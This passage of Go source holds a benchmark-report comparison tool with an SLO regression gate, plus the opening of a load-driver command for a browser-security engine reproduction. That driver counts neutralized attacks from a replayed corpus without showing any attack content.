	VictimP99NoisyMs float64 `json:"victim_p99_noisy_ms"`
	P99Ratio         float64 `json:"p99_ratio"`
}

// controlSection mirrors the subset of the control-plane section
// compared: propagation and refill latency, tenant scale, the
// mixed-generation gate, and noisy-neighbor isolation.
type controlSection struct {
	TenantsMounted   int           `json:"tenants_mounted"`
	Generation       uint64        `json:"generation"`
	GenerationsMixed int           `json:"generations_mixed"`
	Storm            *controlStorm `json:"storm"`
	Noisy            *controlNoisy `json:"noisy_neighbor"`
}

// scriptEngine mirrors one engine's half of the script section.
type scriptEngine struct {
	OpsPerSec   float64 `json:"ops_per_sec"`
	NsPerOp     float64 `json:"ns_per_op"`
	AllocsPerOp float64 `json:"allocs_per_op"`
}

// scriptSection mirrors the subset of the script section compared:
// interpreter vs compiled VM on the shared corpus.
type scriptSection struct {
	Eval       scriptEngine `json:"eval"`
	VM         scriptEngine `json:"vm"`
	Speedup    float64      `json:"speedup"`
	AllocRatio float64      `json:"alloc_ratio"`
}

// obsSeries mirrors one sampled runtime series of the obs section.
type obsSeries struct {
	First int64 `json:"first"`
	Last  int64 `json:"last"`
	Min   int64 `json:"min"`
	Max   int64 `json:"max"`
}

// obsSampler mirrors the runtime sampler summary inside the obs
// section.
type obsSampler struct {
	Samples              int       `json:"samples"`
	Goroutines           obsSeries `json:"goroutines"`
	PostWarmupGoroutines int64     `json:"post_warmup_goroutines"`
	HeapAllocBytes       obsSeries `json:"heap_alloc_bytes"`
	HeapMonotonic        bool      `json:"heap_monotonic"`
	GCPauseTotalMs       float64   `json:"gc_pause_total_ms"`
	NumGC                uint32    `json:"num_gc"`
}

// obsVersion mirrors the build stamp of the obs section.
type obsVersion struct {
	Module string `json:"module"`
	Go     string `json:"go"`
}

// obsSection mirrors the subset of the obs section compared. Reports
// that predate the section carry nil and are rendered one-sided.
type obsSection struct {
	Version                obsVersion `json:"version"`
	Sampler                obsSampler `json:"sampler"`
	DecisionEventsRecorded uint64     `json:"decision_events_recorded"`
}

// sloStage mirrors one stage's latency summary inside the slo section.
type sloStage struct {
	P50Ms  float64 `json:"p50_ms"`
	P99Ms  float64 `json:"p99_ms"`
	P999Ms float64 `json:"p999_ms"`
	Count  uint64  `json:"count"`
}

// sloLeak mirrors the open-loop leak-watch verdict.
type sloLeak struct {
	SlopeBytesPerSec float64 `json:"slope_bytes_per_sec"`
	GrowthFraction   float64 `json:"growth_fraction"`
	WindowSec        float64 `json:"window_sec"`
	Points           int     `json:"points"`
	Suspected        bool    `json:"leak_suspected"`
}

// sloSection mirrors the subset of the open-loop slo section compared
// and gated on.
type sloSection struct {
	TargetRate      float64             `json:"target_rate"`
	OfferedRate     float64             `json:"offered_rate"`
	AchievedRate    float64             `json:"achieved_rate"`
	DurationSec     float64             `json:"duration_sec"`
	Dropped         int64               `json:"dropped"`
	Errors          int64               `json:"errors"`
	ErrorFraction   float64             `json:"error_fraction"`
	P50Ms           float64             `json:"p50_ms"`
	P99Ms           float64             `json:"p99_ms"`
	P999Ms          float64             `json:"p999_ms"`
	P99BudgetMs     float64             `json:"p99_budget_ms"`
	P99WithinBudget bool                `json:"p99_within_budget"`
	Stages          map[string]sloStage `json:"stages"`
	Leak            *sloLeak            `json:"leak"`
}

// report mirrors the subset of BENCH_engine.json being compared.
type report struct {
	Sessions   int             `json:"sessions"`
	Mode       string          `json:"mode"`
	GoMaxProcs int             `json:"gomaxprocs"`
	Phases     []phase         `json:"phases"`
	Script     *scriptSection  `json:"script"`
	HTTP       *httpSection    `json:"http"`
	Cluster    *clusterSection `json:"cluster"`
	Control    *controlSection `json:"control"`
	Obs        *obsSection     `json:"obs"`
	SLO        *sloSection     `json:"slo"`
	TotalMs    float64         `json:"total_ms"`
}

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "escudo-compare:", err)
		os.Exit(1)
	}
}

func load(path string) (report, error) {
	var r report
	data, err := os.ReadFile(path)
	if err != nil {
		return r, err
	}
	if err := json.Unmarshal(data, &r); err != nil {
		return r, fmt.Errorf("%s: %w", path, err)
	}
	return r, nil
}

// delta formats a old→new change with its signed percentage.
func delta(old, new float64) string {
	if old == 0 {
		return fmt.Sprintf("%.3f → %.3f", old, new)
	}
	pct := 100 * (new - old) / old
	return fmt.Sprintf("%.3f → %.3f (%+.1f%%)", old, new, pct)
}

func run(args []string, out *os.File) error {
	if len(args) != 2 {
		return fmt.Errorf("usage: escudo-compare OLD.json NEW.json")
	}
	oldR, err := load(args[0])
	if err != nil {
		return err
	}
	newR, err := load(args[1])
	if err != nil {
		return err
	}

	oldByName := map[string]phase{}
	for _, p := range oldR.Phases {
		oldByName[p.Name] = p
	}

	fmt.Fprintf(out, "old: %s (%d sessions, mode %s, gomaxprocs %d, %.0f ms total)\n",
		args[0], oldR.Sessions, oldR.Mode, oldR.GoMaxProcs, oldR.TotalMs)
	fmt.Fprintf(out, "new: %s (%d sessions, mode %s, gomaxprocs %d, %.0f ms total)\n\n",
		args[1], newR.Sessions, newR.Mode, newR.GoMaxProcs, newR.TotalMs)

	t := metrics.NewTable("Phase", "Tasks", "p50 (ms)", "p99 (ms)", "Decisions")
	seen := map[string]bool{}
	for _, np := range newR.Phases {
		seen[np.Name] = true
		op, ok := oldByName[np.Name]
		if !ok {
			t.AddRow(np.Name+" (new)",
				fmt.Sprintf("%d", np.Tasks),
				fmt.Sprintf("%.3f", np.P50Ms),
				fmt.Sprintf("%.3f", np.P99Ms),
				fmt.Sprintf("%d", np.Decisions))
			continue
		}
		t.AddRow(np.Name,
			fmt.Sprintf("%d", np.Tasks),
			delta(op.P50Ms, np.P50Ms),
			delta(op.P99Ms, np.P99Ms),
			fmt.Sprintf("%d → %d", op.Decisions, np.Decisions))
	}
	for _, op := range oldR.Phases {
		if !seen[op.Name] {
			t.AddRow(op.Name+" (removed)",
				fmt.Sprintf("%d", op.Tasks),
				fmt.Sprintf("%.3f", op.P50Ms),
				fmt.Sprintf("%.3f", op.P99Ms),
				fmt.Sprintf("%d", op.Decisions))
		}
	}
	fmt.Fprint(out, t.String())
	compareScript(out, oldR.Script, newR.Script)
	compareHTTP(out, oldR.HTTP, newR.HTTP)
	compareCluster(out, oldR.Cluster, newR.Cluster)
	compareControl(out, oldR.Control, newR.Control)
	compareObs(out, oldR.Obs, newR.Obs)
	return compareSLO(out, sloOf(oldR), sloOf(newR))
}

// sloOf picks a report's effective slo section: the single-process one
// at the top level, or the merged fleet view at cluster.slo.
func sloOf(r report) *sloSection {
	if r.SLO != nil {
		return r.SLO
	}
	if r.Cluster != nil {
		return r.Cluster.SLO
	}
	return nil
}

// SLO regression envelope: the new p99 must exceed BOTH bounds before
// the gate trips, so shared-runner jitter on a sub-millisecond tail
// can never fail a build on its own.
const (
	sloP99RegressRatio   = 2.0 // new p99 > 2x old p99, and
	sloP99RegressFloorMs = 5.0 // new p99 at least 5 ms worse
)

// describeSLO renders one report's open-loop summary on a line.
func describeSLO(s *sloSection) string {
	return fmt.Sprintf("%.0f req/s offered over %.1fs, p99 %.3f ms, %d dropped, %.2f%% errors",
		s.OfferedRate, s.DurationSec, s.P99Ms, s.Dropped, 100*s.ErrorFraction)
}

// compareSLO diffs the open-loop slo sections and enforces the gate:
// unlike every other section, a dirty leak verdict, a missed p99
// budget, or a p99 regression past the noise envelope returns an
// error (nonzero exit). The diff always prints first, so a failing
// run still shows the numbers that failed it.
func compareSLO(out *os.File, oldS, newS *sloSection) error {
	if oldS == nil && newS == nil {
		return nil
	}
	fmt.Fprintf(out, "\nslo: ")
	switch {
	case oldS == nil:
		fmt.Fprintf(out, "old report has none; new: %s\n", describeSLO(newS))
	case newS == nil:
		fmt.Fprintf(out, "new report has none; old: %s\n", describeSLO(oldS))
		return nil
	default:
		fmt.Fprintf(out, "offered %s req/s, achieved %s req/s, dropped %d → %d, errors %d → %d\n",
			delta(oldS.OfferedRate, newS.OfferedRate),
			delta(oldS.AchievedRate, newS.AchievedRate),
			oldS.Dropped, newS.Dropped, oldS.Errors, newS.Errors)
	}

	oldStages := map[string]sloStage{}
	var oldTotal sloStage
	if oldS != nil {
		oldStages = oldS.Stages
		oldTotal = sloStage{P50Ms: oldS.P50Ms, P99Ms: oldS.P99Ms, P999Ms: oldS.P999Ms}
	}
	t := metrics.NewTable("SLO stage", "p50 (ms)", "p99 (ms)", "p99.9 (ms)")
	t.AddRow("total",
		delta(oldTotal.P50Ms, newS.P50Ms),
		delta(oldTotal.P99Ms, newS.P99Ms),
		delta(oldTotal.P999Ms, newS.P999Ms))
	names := make([]string, 0, len(newS.Stages))
	for name := range newS.Stages {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		np := newS.Stages[name]
		op := oldStages[name]
		t.AddRow(name,
			delta(op.P50Ms, np.P50Ms),
			delta(op.P99Ms, np.P99Ms),
			delta(op.P999Ms, np.P999Ms))
	}
	fmt.Fprint(out, t.String())
	if newS.Leak != nil {
		fmt.Fprintf(out, "leak watch: slope %.0f B/s over %.1fs (%d points), suspected=%v\n",
			newS.Leak.SlopeBytesPerSec, newS.Leak.WindowSec, newS.Leak.Points, newS.Leak.Suspected)
	}

	// The gate. Each failure is named; all failures print before the
	// first one is returned.
	var failures []string
	if newS.Leak != nil && newS.Leak.Suspected {
		failures = append(failures, fmt.Sprintf(
			"leak verdict dirty: heap grew %.0f B/s (%.1f%% of mean) over %.1fs",
			newS.Leak.SlopeBytesPerSec, 100*newS.Leak.GrowthFraction, newS.Leak.WindowSec))
	}
	if newS.P99BudgetMs > 0 && !newS.P99WithinBudget {
		failures = append(failures, fmt.Sprintf(
			"p99 %.3f ms misses the declared %.1f ms budget", newS.P99Ms, newS.P99BudgetMs))
	}
	if oldS != nil && oldS.P99Ms > 0 &&
		newS.P99Ms > oldS.P99Ms*sloP99RegressRatio &&
		newS.P99Ms-oldS.P99Ms > sloP99RegressFloorMs {
		failures = append(failures, fmt.Sprintf(
			"p99 regressed %.3f → %.3f ms (> %.0fx and > %.0f ms past the noise envelope)",
			oldS.P99Ms, newS.P99Ms, sloP99RegressRatio, sloP99RegressFloorMs))
	}
	if len(failures) > 0 {
		for _, f := range failures {
			fmt.Fprintf(out, "SLO GATE FAIL: %s\n", f)
		}
		return fmt.Errorf("slo gate: %s", failures[0])
	}
	fmt.Fprintf(out, "SLO gate: pass\n")
	return nil
}

// describeControl renders one report's control-plane summary.
func describeControl(c *controlSection) string {
	s := fmt.Sprintf("%d tenants at generation %d, %d mixed pages", c.TenantsMounted, c.Generation, c.GenerationsMixed)
	if c.Storm != nil {
		s += fmt.Sprintf(", propagation %.1f ms, refill %.1f ms", c.Storm.PropagationMs, c.Storm.CacheRefillMs)
	}
	return s
}

// compareControl diffs the control-plane sections: tenant scale, flip
// propagation and cache refill latency, the throughput dip, and the
// noisy-neighbor isolation ratio. One-sided when either report
// predates the section.
func compareControl(out *os.File, oldC, newC *controlSection) {
	if oldC == nil && newC == nil {
		return
	}
	fmt.Fprintf(out, "\ncontrol: ")
	switch {
	case oldC == nil:
		fmt.Fprintf(out, "old report has none; new: %s\n", describeControl(newC))
	case newC == nil:
		fmt.Fprintf(out, "new report has none; old: %s\n", describeControl(oldC))
		return
	default:
		fmt.Fprintf(out, "tenants %d → %d, generation %d → %d, mixed pages %d → %d\n",
			oldC.TenantsMounted, newC.TenantsMounted, oldC.Generation, newC.Generation,
			oldC.GenerationsMixed, newC.GenerationsMixed)
	}
	if newC.Storm != nil {
		if oldC != nil && oldC.Storm != nil {
			fmt.Fprintf(out, "storm: propagation %s ms, cache refill %s ms, reqs/s dip %s%%\n",
				delta(oldC.Storm.PropagationMs, newC.Storm.PropagationMs),
				delta(oldC.Storm.CacheRefillMs, newC.Storm.CacheRefillMs),
				delta(oldC.Storm.DipPercent, newC.Storm.DipPercent))
		} else {
			fmt.Fprintf(out, "storm: propagation %.1f ms, cache refill %.1f ms, reqs/s dip %.1f%% (baseline %.0f, min %.0f)\n",
				newC.Storm.PropagationMs, newC.Storm.CacheRefillMs, newC.Storm.DipPercent,
				newC.Storm.BaselineReqsPerSec, newC.Storm.MinPostFlipReqsPerSec)
		}
	}
	if newC.Noisy != nil {
		if oldC != nil && oldC.Noisy != nil {
			fmt.Fprintf(out, "noisy neighbor: victim p99 %s ms flooded, ratio %s\n",
				delta(oldC.Noisy.VictimP99NoisyMs, newC.Noisy.VictimP99NoisyMs),
				delta(oldC.Noisy.P99Ratio, newC.Noisy.P99Ratio))
		} else {
			fmt.Fprintf(out, "noisy neighbor: victim p99 %.3f ms alone vs %.3f ms flooded (ratio %.2f)\n",
				newC.Noisy.VictimP99AloneMs, newC.Noisy.VictimP99NoisyMs, newC.Noisy.P99Ratio)
		}
	}
}

// describeObs renders one report's runtime-health summary on a line.
func describeObs(o *obsSection) string {
	return fmt.Sprintf("%s, goroutines post-warmup/last %d/%d, heap last %.1f MiB (monotonic=%v), %d GC cycles, %d decision events",
		o.Version.Go, o.Sampler.PostWarmupGoroutines, o.Sampler.Goroutines.Last,
		float64(o.Sampler.HeapAllocBytes.Last)/(1<<20), o.Sampler.HeapMonotonic,
		o.Sampler.NumGC, o.DecisionEventsRecorded)
}

// compareObs diffs the observability sections: runtime-health shape
// and decision-trace traffic. One-sided when either report predates
// the section — an old report without obs must render, not error.
func compareObs(out *os.File, oldO, newO *obsSection) {
	if oldO == nil && newO == nil {
		return
	}
	fmt.Fprintf(out, "\nobs: ")
	switch {
	case oldO == nil:
		fmt.Fprintf(out, "old report has none; new: %s\n", describeObs(newO))
	case newO == nil:
		fmt.Fprintf(out, "new report has none; old: %s\n", describeObs(oldO))
	default:
		fmt.Fprintf(out, "goroutines last %d → %d, heap last %s MiB, GC cycles %d → %d, decision events %d → %d\n",
			oldO.Sampler.Goroutines.Last, newO.Sampler.Goroutines.Last,
			delta(float64(oldO.Sampler.HeapAllocBytes.Last)/(1<<20), float64(newO.Sampler.HeapAllocBytes.Last)/(1<<20)),
			oldO.Sampler.NumGC, newO.Sampler.NumGC,
			oldO.DecisionEventsRecorded, newO.DecisionEventsRecorded)
		if oldO.Version.Go != newO.Version.Go {
			fmt.Fprintf(out, "toolchain changed: %s → %s\n", oldO.Version.Go, newO.Version.Go)
		}
	}
}

// compareHTTP diffs the http sections: negotiated protocol, connection
// reuse, the allocs-per-request headline, and the per-phase wire
// throughput. One-sided when either report predates the section (or
// the h2/alloc fields inside it).
func compareHTTP(out *os.File, oldH, newH *httpSection) {
	if oldH == nil && newH == nil {
		return
	}
	fmt.Fprintf(out, "\nhttp: ")
	switch {
	case oldH == nil:
		fmt.Fprintf(out, "old report has none; new: proto %s, conn reuse %.2f, %.0f allocs/request\n",
			newH.proto(), newH.Client.reuseRate(), newH.AllocsPerRequest)
	case newH == nil:
		fmt.Fprintf(out, "new report has none; old: proto %s\n", oldH.proto())
		return
	default:
		fmt.Fprintf(out, "proto %s → %s, conn reuse %s, allocs/request %s\n",
			oldH.proto(), newH.proto(),
			delta(oldH.Client.reuseRate(), newH.Client.reuseRate()),
			delta(oldH.AllocsPerRequest, newH.AllocsPerRequest))
	}

	oldPhases := map[string]httpPhase{}
	if oldH != nil {
		for _, p := range oldH.Phases {
			oldPhases[p.Name] = p
		}
	}
	t := metrics.NewTable("HTTP phase", "Tasks", "Reqs/s", "p50 (ms)", "p99 (ms)")
	for _, np := range newH.Phases {
		op, ok := oldPhases[np.Name]
		if !ok {
			t.AddRow(np.Name+" (new)",
				fmt.Sprintf("%d", np.Tasks),
				fmt.Sprintf("%.0f", np.ReqsPerSec),
				fmt.Sprintf("%.3f", np.P50Ms),
				fmt.Sprintf("%.3f", np.P99Ms))
			continue
		}
		t.AddRow(np.Name,
			fmt.Sprintf("%d", np.Tasks),
			delta(op.ReqsPerSec, np.ReqsPerSec),
			delta(op.P50Ms, np.P50Ms),
			delta(op.P99Ms, np.P99Ms))
	}
	fmt.Fprint(out, t.String())
}

// compareScript diffs the engine-vs-engine section: per-engine
// throughput and allocations, then the paired speedup and alloc
// ratio — the two numbers the script-engine acceptance gate pins.
func compareScript(out *os.File, oldS, newS *scriptSection) {
	if oldS == nil && newS == nil {
		return
	}
	fmt.Fprintf(out, "\nscript: ")
	switch {
	case oldS == nil:
		fmt.Fprintf(out, "old report has none; new: vm %.2fx faster than eval, %.3fx allocs\n",
			newS.Speedup, newS.AllocRatio)
	case newS == nil:
		fmt.Fprintf(out, "new report has none; old: vm %.2fx faster than eval, %.3fx allocs\n",
			oldS.Speedup, oldS.AllocRatio)
		return
	default:
		fmt.Fprintf(out, "vm speedup %s, alloc ratio %s\n",
			delta(oldS.Speedup, newS.Speedup), delta(oldS.AllocRatio, newS.AllocRatio))
	}

	oldE, oldV := scriptEngine{}, scriptEngine{}
	if oldS != nil {
		oldE, oldV = oldS.Eval, oldS.VM
	}
	t := metrics.NewTable("Engine", "Ops/s", "ns/op", "Allocs/op")
	t.AddRow("eval",
		delta(oldE.OpsPerSec, newS.Eval.OpsPerSec),
		delta(oldE.NsPerOp, newS.Eval.NsPerOp),
		delta(oldE.AllocsPerOp, newS.Eval.AllocsPerOp))
	t.AddRow("vm",
		delta(oldV.OpsPerSec, newS.VM.OpsPerSec),
		delta(oldV.NsPerOp, newS.VM.NsPerOp),
		delta(oldV.AllocsPerOp, newS.VM.AllocsPerOp))
	fmt.Fprint(out, t.String())
}

// compareCluster diffs the multi-process sections: aggregate
// throughput and merged percentiles per phase, then per-worker p99 —
// the per-process breakdown is where a single slow worker hides.
func compareCluster(out *os.File, oldC, newC *clusterSection) {
	if oldC == nil && newC == nil {
		return
	}
	fmt.Fprintf(out, "\ncluster: ")
	switch {
	case oldC == nil:
		fmt.Fprintf(out, "old report has none; new runs %d workers (tls=%v)\n", newC.Workers, newC.TLS)
	case newC == nil:
		fmt.Fprintf(out, "new report has none; old ran %d workers (tls=%v)\n", oldC.Workers, oldC.TLS)
	default:
		fmt.Fprintf(out, "%d → %d workers, tls %v → %v, attacks %d/%d → %d/%d\n",
			oldC.Workers, newC.Workers, oldC.TLS, newC.TLS,
			oldC.AttacksNeutralized, oldC.AttacksTotal, newC.AttacksNeutralized, newC.AttacksTotal)
	}
	if newC == nil {
		return
	}
	if newC.Client != nil {
		if oldC != nil && oldC.Client != nil {
			fmt.Fprintf(out, "gateway transport: proto %s → %s, conn reuse %s\n",
				oldC.Client.proto(), newC.Client.proto(),
				delta(oldC.Client.reuseRate(), newC.Client.reuseRate()))
		} else {
			fmt.Fprintf(out, "gateway transport: proto %s, conn reuse %.2f\n",
				newC.Client.proto(), newC.Client.reuseRate())
		}
	}

	oldPhases := map[string]clusterPhase{}
	if oldC != nil {
		for _, p := range oldC.Phases {
			oldPhases[p.Name] = p
		}
	}
	t := metrics.NewTable("Cluster phase", "Tasks", "Aggregate reqs/s", "p50 (ms)", "p99 (ms)")
	for _, np := range newC.Phases {
		op, ok := oldPhases[np.Name]
		if !ok {
			t.AddRow(np.Name+" (new)",
				fmt.Sprintf("%d", np.Tasks),
				fmt.Sprintf("%.0f", np.ReqsPerSec),
				fmt.Sprintf("%.3f", np.P50Ms),
				fmt.Sprintf("%.3f", np.P99Ms))
			continue
		}
		t.AddRow(np.Name,
			fmt.Sprintf("%d", np.Tasks),
			delta(op.ReqsPerSec, np.ReqsPerSec),
			delta(op.P50Ms, np.P50Ms),
			delta(op.P99Ms, np.P99Ms))
	}
	fmt.Fprint(out, t.String())

	oldWorkers := map[int]clusterWorker{}
	if oldC != nil {
		for _, w := range oldC.PerWorker {
			oldWorkers[w.Worker] = w
		}
	}
	wt := metrics.NewTable("Worker", "Reqs/s", "p99 (ms)")
	for _, nw := range newC.PerWorker {
		ow, ok := oldWorkers[nw.Worker]
		if !ok {
			wt.AddRow(fmt.Sprintf("worker-%d (new)", nw.Worker),
				fmt.Sprintf("%.0f", nw.ReqsPerSec),
				fmt.Sprintf("%.3f", nw.P99Ms))
			continue
		}
		wt.AddRow(fmt.Sprintf("worker-%d", nw.Worker),
			delta(ow.ReqsPerSec, nw.ReqsPerSec),
			delta(ow.P99Ms, nw.P99Ms))
	}
	fmt.Fprint(out, wt.String())
}
