// Command escudo-serve is the concurrent load driver for the engine:
// it replays the Figure-4 scenario pages, a logged-in phpBB browsing
// workload, and a mixed workload (concurrent phpBB + PHP-Calendar +
// mashup-portal sessions against one network) across a pool of N
// independent browser sessions sharing one decision cache, then
// replays the §6.4 attack corpus across the same pool, and emits
// BENCH_engine.json with p50/p99 task latency, decisions/sec, cache
// hit rates, and batched-authorization dedup per phase.
//
// With -http it additionally mounts the same origins on a real
// net/http gateway (internal/httpd) over loopback, re-runs the
// figure-4 and mixed workloads plus the attack replay through
// httpd.ClientTransport — real sockets, Host-header virtual hosting,
// per-origin worker queues, cross-request page cache — and extends
// the report with an "http" section (reqs/sec, p50/p99, queue depth,
// 503 count, cache hit rate). The attack verdicts over sockets are
// cross-checked against the in-memory verdicts: any divergence fails
// the run, because the protection model is transport-independent.
//
// The multi-process modes (see cluster.go) split the deployment
// across real OS processes: -serve-only runs the gateway alone until
// SIGTERM, -connect runs a loadgen worker against a remote gateway,
// and -cluster N fork/execs one server plus N workers and merges
// their BENCH shards into a `cluster` section. -tls terminates https
// on the gateway with an ephemeral in-memory CA in any gateway mode.
//
// Usage:
//
//	escudo-serve [-sessions N] [-iters N] [-phpbb-iters N]
//	             [-mixed-iters N] [-procs N] [-procs-bench N]
//	             [-mode escudo|sop] [-attacks] [-uncached]
//	             [-http addr] [-http-workers N] [-http-queue N] [-tls]
//	             [-pprof] [-cpuprofile f] [-memprofile f]
//	             [-cluster N | -serve-only | -connect addr]
//	             [-out BENCH_engine.json]
package main

import (
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"os"
	"os/signal"
	"runtime"
	"runtime/pprof"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"repro/internal/attack"
	"repro/internal/browser"
	"repro/internal/cluster"
	"repro/internal/core"
	"repro/internal/engine"
	"repro/internal/httpd"
	"repro/internal/metrics"
	"repro/internal/nonce"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/policy"
	"repro/internal/scenarios"
	"repro/internal/slo"
	"repro/internal/template"
	"repro/internal/web"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "escudo-serve:", err)
		os.Exit(1)
	}
}

// cacheJSON is the cache section of one phase.
type cacheJSON struct {
	Hits    uint64  `json:"hits"`
	Misses  uint64  `json:"misses"`
	HitRate float64 `json:"hit_rate"`
	Entries int     `json:"entries"`
}

// attacksJSON is the attack-replay section.
type attacksJSON struct {
	Total       int `json:"total"`
	Neutralized int `json:"neutralized"`
	Succeeded   int `json:"succeeded"`
}

// batchJSON is the batched-authorization section of one phase: how
// many DOM nodes flowed through the batched path vs. how many
// distinct decisions were actually computed.
type batchJSON struct {
	NodesAuthorized   uint64  `json:"nodes_authorized"`
	DistinctDecisions uint64  `json:"distinct_decisions"`
	DedupRatio        float64 `json:"dedup_ratio"`
}

// obsJSON is the observability section of BENCH_engine.json: the
// process's build stamp, the runtime sampler's summary over the whole
// run (goroutines, heap, GC), and the decision-trace ring's traffic.
// In cluster runs the workers' equivalents are merged into
// cluster.obs; this section always describes the driving process.
type obsJSON struct {
	Version obs.Stamp        `json:"version"`
	Sampler obs.SamplerStats `json:"sampler"`
	// DecisionEventsRecorded counts every decision-trace event recorded
	// over the run; DecisionEventsRetained is how many the ring still
	// holds (min of recorded and ring capacity).
	DecisionEventsRecorded uint64 `json:"decision_events_recorded"`
	DecisionEventsRetained int    `json:"decision_events_retained"`
}

// phaseJSON is one benchmark phase in BENCH_engine.json.
type phaseJSON struct {
	Name  string `json:"name"`
	Tasks uint64 `json:"tasks"`
	// Errors counts harness-level task failures (0 on a clean run).
	Errors    int     `json:"errors"`
	P50Ms     float64 `json:"p50_ms"`
	P99Ms     float64 `json:"p99_ms"`
	MeanMs    float64 `json:"mean_ms"`
	ElapsedMs float64 `json:"elapsed_ms"`
	// Decisions counts reference-monitor verdicts during the phase:
	// audit-log records for pool phases, cache lookups for the attack
	// replay (whose environments own their audit logs).
	Decisions       uint64       `json:"decisions"`
	DecisionsPerSec float64      `json:"decisions_per_sec"`
	Cache           *cacheJSON   `json:"cache,omitempty"`
	Batch           *batchJSON   `json:"batch,omitempty"`
	Attacks         *attacksJSON `json:"attacks,omitempty"`
}

// httpPhaseJSON is one loopback loadgen phase of the http section.
// Tasks/latency are measured at the client sessions; requests, 503s,
// and cache traffic are the gateway's deltas for the phase, and
// queue_depth_max is the phase's own high-water mark (the gauge is
// reset at each phase start).
type httpPhaseJSON struct {
	Name          string  `json:"name"`
	Tasks         uint64  `json:"tasks"`
	Errors        int     `json:"errors"`
	P50Ms         float64 `json:"p50_ms"`
	P99Ms         float64 `json:"p99_ms"`
	MeanMs        float64 `json:"mean_ms"`
	ElapsedMs     float64 `json:"elapsed_ms"`
	Requests      uint64  `json:"requests"`
	ReqsPerSec    float64 `json:"reqs_per_sec"`
	Rejected503   uint64  `json:"rejected_503"`
	QueueDepthMax int64   `json:"queue_depth_max"`
	CacheHits     uint64  `json:"page_cache_hits"`
	CacheMisses   uint64  `json:"page_cache_misses"`
	CacheHitRate  float64 `json:"page_cache_hit_rate"`
	CacheEvicted  uint64  `json:"page_cache_evictions"`
	// AllocsPerRequest is the process-wide heap-allocation count per
	// gateway-served request during the phase (client sessions, wire,
	// gateway, and handlers all included — the whole request path the
	// allocation diet targets). Measured on http-figure4 only.
	AllocsPerRequest float64 `json:"allocs_per_request,omitempty"`
}

// httpJSON is the http section of BENCH_engine.json: the same
// workloads replayed over real sockets through the gateway.
type httpJSON struct {
	Addr       string `json:"addr"`
	TLS        bool   `json:"tls"`
	Workers    int    `json:"workers_per_origin"`
	QueueDepth int    `json:"queue_depth_per_origin"`
	// Proto is the negotiated wire protocol of the loadgen traffic:
	// "h2" on the TLS paths (ALPN + ForceAttemptHTTP2), "h1" on plain
	// keep-alive loopback.
	Proto string `json:"proto"`
	// AllocsPerRequest mirrors the http-figure4 phase's figure — the
	// headline number the allocation-diet CI gate asserts.
	AllocsPerRequest float64         `json:"allocs_per_request,omitempty"`
	Phases           []httpPhaseJSON `json:"phases"`
	Gateway          httpd.Stats     `json:"gateway"`
	// Client is the loadgen transport's connection accounting (new
	// vs reused keep-alive connections).
	Client *cluster.ClientJSON `json:"client,omitempty"`
	// PolicyzOrigins counts the policy documents the admin /policyz
	// endpoint served, cross-checked against the mounted set.
	PolicyzOrigins int          `json:"policyz_origins"`
	Attacks        *attacksJSON `json:"attacks,omitempty"`
	// AttacksMatchMemory reports that every attack's verdict over
	// sockets equaled its in-memory verdict — the transport-
	// independence invariant, asserted at runtime.
	AttacksMatchMemory *bool `json:"attacks_match_memory,omitempty"`
}

// policyJSON is the policy section of BENCH_engine.json: the unified
// documents derived for the substrate's origins, a serialization
// round-trip check, and the delegated-session phase — the §7 monitor
// mounted into a pool of real sessions via MonitorFactory.
type policyJSON struct {
	// Origins lists the origins with a derived policy document.
	Origins []string `json:"origins"`
	// Delegations counts delegation rows across the documents.
	Delegations int `json:"delegations"`
	// RoundTripOK reports Parse(Marshal(p)) == p for every document.
	RoundTripOK bool `json:"round_trip_ok"`
	// Phases holds the delegated-session phase measurements.
	Phases []phaseJSON `json:"phases"`
}

// benchJSON is the whole BENCH_engine.json document.
type benchJSON struct {
	Sessions int    `json:"sessions"`
	Mode     string `json:"mode"`
	Uncached bool   `json:"uncached"`
	// ProcsRequested is the -procs flag value (0 when unset);
	// GoMaxProcs is the effective setting after clamping to the
	// machine's CPU count.
	ProcsRequested int         `json:"procs_requested,omitempty"`
	GoMaxProcs     int         `json:"gomaxprocs"`
	Phases         []phaseJSON `json:"phases"`
	// ProcsVariant re-runs the figure4 phase at -procs-bench GOMAXPROCS
	// after the 1-CPU phases, so the report carries serial and parallel
	// numbers side by side.
	ProcsVariant *procsVariantJSON `json:"procs_variant,omitempty"`
	Policy       *policyJSON       `json:"policy,omitempty"`
	// Script is the engine-vs-engine section: the tree-walking
	// interpreter against the compiled VM on the shared corpus (see
	// scriptbench.go). Measured after the workload phases so the
	// compile-cache counters reflect real <script> traffic.
	Script *scriptJSON `json:"script,omitempty"`
	HTTP   *httpJSON   `json:"http,omitempty"`
	// Cluster is the multi-process deployment's merged section: one
	// serve-only gateway process, N loadgen workers, shards merged by
	// the supervisor (written by -cluster runs; other sections of an
	// existing report are preserved).
	Cluster *cluster.Report `json:"cluster,omitempty"`
	// Control is the policy control plane section (written by -control
	// runs): the invalidation storm, the multi-tenant mount scale, and
	// the noisy-neighbor isolation figures.
	Control *controlJSON `json:"control,omitempty"`
	// Obs is the run's observability summary: build stamp, runtime
	// sampler series, decision-trace ring traffic.
	Obs *obsJSON `json:"obs,omitempty"`
	// SLO is the open-loop section (written by -openloop runs): offered
	// vs achieved rate, per-stage latency percentiles, error budget,
	// exemplar traces, and the leak verdict for the window. In -cluster
	// runs the merged fleet view lives at Cluster.SLO instead.
	SLO     *slo.Result `json:"slo,omitempty"`
	TotalMs float64     `json:"total_ms"`
}

// procsVariantJSON is the GOMAXPROCS>1 bench variant published
// alongside the 1-CPU numbers (satellite of the perf PR): the figure4
// phase re-run with the runtime widened to -procs-bench cores.
type procsVariantJSON struct {
	// Procs is the requested width; GoMaxProcs the effective one after
	// clamping to the machine.
	Procs      int         `json:"procs"`
	GoMaxProcs int         `json:"gomaxprocs"`
	Phases     []phaseJSON `json:"phases"`
}

func ms(d time.Duration) float64 { return float64(d.Nanoseconds()) / 1e6 }

// portalHandler serves the mashup-portal host page: ring-1 chrome, a
// row of ring-2 AC-tagged widget slots, a cross-origin widget iframe,
// and a ring-1 script that snapshots the slot region via innerHTML —
